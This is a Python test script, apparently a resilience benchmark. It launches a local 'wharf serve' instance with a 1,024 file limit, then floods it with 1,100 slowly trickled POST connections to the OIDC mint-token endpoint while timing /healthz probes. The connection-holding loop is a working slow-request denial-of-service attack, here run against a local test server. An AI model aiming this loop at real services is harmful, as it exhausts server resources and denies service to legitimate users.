"""Usage: python3 scripts/socket-flood.py WHARF_BINARY PORT [SOCKETS] [SECONDS]
`/healthz` latency of `wharf serve` (default flags, file limit 1,024 set by prlimit) while an
attacker holds SOCKETS (1,100) connections, each a `POST /_/oidc/mint-token` whose body trickles
one byte every 20 s (the mint-token rate limit is off: the attack comes from many addresses),
and reopens any the server closes. A fresh client asks `/healthz` every second (10 s timeout
each) for SECONDS (90); prints how many answered and their latencies."""
import atexit, select, socket, subprocess, sys, tempfile, time

binary, port = sys.argv[1], int(sys.argv[2])
count = int(sys.argv[3]) if len(sys.argv) > 3 else 1100
seconds = float(sys.argv[4]) if len(sys.argv) > 4 else 90
data = tempfile.mkdtemp()
server = subprocess.Popen(["prlimit", "--nofile=1024:1024", "--", binary, "serve", "--listen",
                           f"127.0.0.1:{port}", "--data-dir", data, "--mint-token-rate-limit", "0"],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
atexit.register(server.terminate)
for _ in range(600):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close(); break
    except OSError:
        time.sleep(0.1)
time.sleep(1)
HEAD = (b"POST /_/oidc/mint-token HTTP/1.1\r\nHost: wharf\r\nContent-Type: application/json\r\n"
        b"Content-Length: 60000\r\n\r\n{")
def attack():
    s = socket.socket(); s.setblocking(False)
    s.connect_ex(("127.0.0.1", port))
    return s
held = [attack() for _ in range(count)]
sent = {id(s): False for s in held}
def probe():
    start = time.monotonic()
    try:
        c = socket.create_connection(("127.0.0.1", port), timeout=10)
        c.settimeout(10)
        c.sendall(b"GET /healthz HTTP/1.1\r\nHost: wharf\r\nConnection: close\r\n\r\n")
        answer = c.recv(64); c.close()
        return time.monotonic() - start if answer.startswith(b"HTTP/1.1 200") else None
    except OSError:
        return None
latencies, failures, reopened = [], 0, 0
end = time.monotonic() + seconds
next_probe, next_trickle = time.monotonic() + 2, time.monotonic() + 20
while time.monotonic() < end:
    # Send heads once connected, reopen what the server closed, trickle every 20 s (poll:
    # select() stops at descriptor 1,024).
    poller, by_fd = select.poll(), {s.fileno(): s for s in held}
    for fd, s in by_fd.items():
        poller.register(fd, select.POLLIN | (0 if sent.get(id(s)) else select.POLLOUT))
    for fd, events in poller.poll(50):
        s = by_fd[fd]
        if events & select.POLLOUT and not sent.get(id(s)):
            try: s.send(HEAD); sent[id(s)] = True
            except OSError: pass
        if events & (select.POLLIN | select.POLLHUP | select.POLLERR):
            try: gone = s.recv(4096) == b""
            except BlockingIOError: gone = False
            except OSError: gone = True
            if gone:
                held.remove(s); s.close(); n = attack(); held.append(n); sent[id(n)] = False
                reopened += 1
    now = time.monotonic()
    if now >= next_trickle:
        for s in held:
            try: s.send(b"a")
            except OSError: pass
        next_trickle = now + 20
    if now >= next_probe:
        latency = probe()
        if latency is None: failures += 1
        else: latencies.append(latency)
        next_probe = time.monotonic() + 1
server.terminate(); server.wait()
latencies.sort()
print(f"sockets {count}, probes answered {len(latencies)}, failed {failures}, attacker reopened {reopened}")
if latencies:
    print(f"latency min {latencies[0]*1000:.0f} ms, median {latencies[len(latencies)//2]*1000:.0f} ms, "
          f"max {latencies[-1]*1000:.0f} ms")
